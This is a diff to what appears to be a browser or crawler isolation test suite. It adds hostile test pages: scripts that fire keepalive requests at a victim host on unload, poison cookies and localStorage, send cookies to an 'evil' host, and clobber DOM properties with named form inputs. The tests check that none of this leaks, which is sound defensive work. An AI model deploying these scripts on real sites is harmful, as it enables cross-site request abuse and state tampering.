@@ -150,6 +150,24 @@ _COOKIE = 'cookies = {session = "T0KEN"}\nverify = false\n'
 _PROXY = 'proxy = "{proxy}"\n'
 _RAN = "fetch('/ran?%s')"
 _SCRIPT = {"Content-Type": "text/javascript"}
+# What a page does when its pass is over.
+_LATE = """
+for (const name of ['pageswap', 'pagehide', 'unload', 'beforeunload', 'visibilitychange', 'freeze'])
+  addEventListener(name, () => {
+    for (let n = 0; n < 127; n++) {
+      fetch('{victim}/late?' + n, {keepalive: true}).catch(() => 0);
+      fetch('/late?' + n).catch(() => 0);
+    }
+    document.cookie = localStorage.a = name = 'EVIL';
+  }, true);
+"""
+# The links that a script adds, below elements that have names of the DOM.
+_NAMES = """
+document.body.innerHTML += `<form id=childNodes><a href=/form-N>x</a><input name=shadowRoot>
+<input name=childNodes><input name=attributes></form><a href=/kept-N>x</a>`;
+"""
+# Where no site answers.
+_NOWHERE = ("about:blank", "chrome-extension://x/x.html", "chrome-untrusted://print/", "data:,x")
 
 EVIL_PAGES = [
     EvilPage(
@@ -231,6 +249,30 @@ EVIL_PAGES = [
             "victim/page": "<p>a page",
         },
         counts={"GET victim/[0-9]": 64, "GET victim/page": 1},
+    ),
+    EvilPage(
+        "acts when its pass is over",
+        {
+            "evil/": _page(_LATE, "/two", "{victim}/page"),
+            "evil/two": _page(_LATE + "fetch('/asked?' + document.cookie + localStorage.a)"),
+            "victim/page": "<body><script src=/app.js></script>",
+            "victim/app.js": lambda *_: (_SCRIPT, _RAN % "' + (localStorage.a || name) + '"),
+        },
+        never="late|EVIL",
+        counts={r"GET evil/asked\?undefined": 1, r"GET victim/ran\?;": 1},
+    ),
+    EvilPage(
+        "leaves for nowhere, and its elements have names of the DOM",
+        {
+            "evil/": _page("", *(f"/{number}" for number in range(len(_NOWHERE)))),
+            **{
+                f"evil/{number}": _page(
+                    _NAMES.replace("-N", "-" + str(number)) + f"location = '{url}'"
+                )
+                for number, url in enumerate(_NOWHERE)
+            },
+        },
+        counts={"GET evil/kept": len(_NOWHERE), "GET evil/form": len(_NOWHERE)},
     ),
     EvilPage(
         "data by time",
